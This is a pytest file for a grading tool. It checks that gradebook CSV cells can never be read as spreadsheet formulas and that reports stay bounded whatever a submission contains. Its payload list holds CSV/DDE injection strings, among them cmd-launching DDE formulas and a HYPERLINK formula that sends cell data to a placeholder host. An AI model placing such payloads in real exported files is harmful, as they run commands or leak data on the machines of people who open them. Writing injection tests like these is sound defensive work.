"""Nothing a submission says makes a report, a book or a page long, or a cell a formula."""

from __future__ import annotations

import csv
import io
import time
import unicodedata

import msgspec
import pytest

from lemmata.render import bounds, gradebook, html
from lemmata.render import json as json_renderer
from lemmata.render.clean import cell, plain
from lemmata.verdict import Cause, Counterexample, Report, Verdict

SIGNS = "=+-@"
PAYLOADS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "x;=1+1;y.py", "x,=1+1,y.py", "x\t=1+1\ty.py", "x|=1+1",
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u3000=1+1", "\xa0=1+1", '"=1+1', '";=1+1;"', '","=1+1',
    "'=1+1", "x;'=1+1", "“=1+1”", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "⁼1", "₌1", "﹢1",
    "⁺1", "−1", "–1", "—1", "﹣1", "﹫x", "x；＝１＋１", "x，＝1", "x｜＝1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1;"y")', "@=1", "x;;;=1", 'x;" \'=1', "\u200b=1+1", "\ufeff=1+1",
    "\x00=1+1", "=1+1\udc80", "DDE;+cmd|'/C calc'!A0", "a\r\n=1+1", "x;\u202e=1",
    "-2+3+cmd|' /C x'!A0",
]  # fmt: skip
HONEST = ["anna.py", "Müller, Anna - hw1.py", "hw 1 (2).py", "O'Neil.py", "a-b_c+d=e.py", "名.py"]


def verdict(**more: object) -> Verdict:
    said = {"status": "error", "points": 0.0, "max_points": 1.0, "cases": 1} | more
    return msgspec.convert(
        {"theorem": "t", "statement": "s", "source": "[me]", **said}, Verdict, strict=False
    )


def report(name: str = "anna.py", count: int = 1, output: str = "", **more: object) -> Report:
    verdicts = [msgspec.structs.replace(verdict(**more), theorem=f"t{i}") for i in range(count)]
    causes = [Cause("raises", v.message, v.theorem) for v in verdicts]
    strong = {"level": "strong"}
    made = Report("0", "a", None, name, 0.0, float(count), strong, verdicts, 0, output)
    return msgspec.structs.replace(made, causes=causes)


def is_formula(text: str) -> bool:
    """As a careless spreadsheet sees a cell: blanks trimmed, other forms of a sign its own."""
    first = unicodedata.normalize("NFKC", text.strip().strip('"').strip())[:1]
    return bool(first) and (first in SIGNS + "\u2212" or unicodedata.category(first) == "Pd")


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_in_any_dialect(payload: str, delimiter: str) -> None:
    book = gradebook.render([["name"], *([name] for name in (payload, "b " + payload, "anna.py"))])
    assert len(book.splitlines()) == 4
    cells = [c for row in csv.reader(io.StringIO(book), delimiter=delimiter) for c in row]
    cells += [c for line in book.splitlines() for c in line.split(delimiter)]  # knows no quotes
    assert not [c for c in cells if is_formula(c)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_book_is_read_back_as_it_was_meant(payload: str) -> None:
    rows = list(csv.reader(io.StringIO(gradebook.render([["name", "score"], [payload, "0"]]))))
    assert rows == [["name", "score"], [cell(payload), "0"]]


def test_every_form_of_a_sign_is_one() -> None:
    for c in map(chr, range(0x110000)):
        if unicodedata.normalize("NFKC", plain(c)).strip()[:1] in tuple(SIGNS):
            assert cell(f"{c}1").startswith("'") and cell(f"x;{c}1").startswith("x;'"), hex(ord(c))


def test_a_pile_of_marks_covers_no_line_and_takes_no_time() -> None:
    """Putting thirty thousand of them in order takes a second, for each page that shows them."""
    before = time.process_time()
    for _ in range(20):
        shown = plain("a" + "\u0300" * 16_000 + "\u0316" * 16_000 + "b")
    assert len(shown) < 15 and shown.endswith("b") and time.process_time() - before < 5
    for word in ("Việt Nam", "שָׁ֑לוֹם", "นี้", "नमस्ते", "👩🏽‍🔬"):
        assert len(plain(word)) >= len(unicodedata.normalize("NFC", word)) > 0


@pytest.mark.parametrize("name", HONEST)
def test_honest_names_stay_as_they_are(name: str) -> None:
    assert cell(name) == name


LOUD = {"quotes": '"', "markup": "<", "controls": "\x01", "wide": "\U0001f600", "half": "\udc80"}


@pytest.mark.parametrize("c", LOUD.values(), ids=LOUD)
@pytest.mark.parametrize("count", [1, 15, 40])
def test_a_report_is_bounded_whatever_is_said(c: str, count: int) -> None:
    big = Counterexample("f", {"X": [[0.1] * 50] * 200}, c * 10_000)
    told = {"message": c * 10**6, "help": "h" * 500, "proof_line": "p" * 500}
    loud = report(c * 5000, count, c * 10**6, **told)
    loud = msgspec.structs.replace(
        loud, verdicts=[msgspec.structs.replace(v, counterexample=big) for v in loud.verdicts]
    )
    text = json_renderer.render(loud)
    assert len(text.encode()) <= bounds.REPORT + 1
    read = json_renderer.parse(text)
    assert json_renderer.render(read) == text
    assert "the data is too long for a report" in read.verdicts[0].message
    assert len(html.render(loud).encode()) < 4 * html.SECTION + 40_000


def test_an_ordinary_report_stays_as_it_is() -> None:
    example = Counterexample("f", {"X": [[1.0, 2.0]] * 20, "y": [1.0] * 20}, "perceptron(X, y)")
    said = report("anna.py", 15, "printed\n" * 100, message="got 1, but should be 2")
    said = msgspec.structs.replace(
        said, verdicts=[msgspec.structs.replace(v, counterexample=example) for v in said.verdicts]
    )
    assert bounds.bounded(said) == said
    assert "got 1, but should be 2" in html.render(said)


def test_who_says_too_much_for_the_page_is_told_in_brief() -> None:
    loud = report("loud.py", 40, message="<" * 2000)
    page = html.render(loud)
    assert "Too long for this page" in page and "&lt;&lt;" not in page
    assert "short" in html.render(report(message="short"))
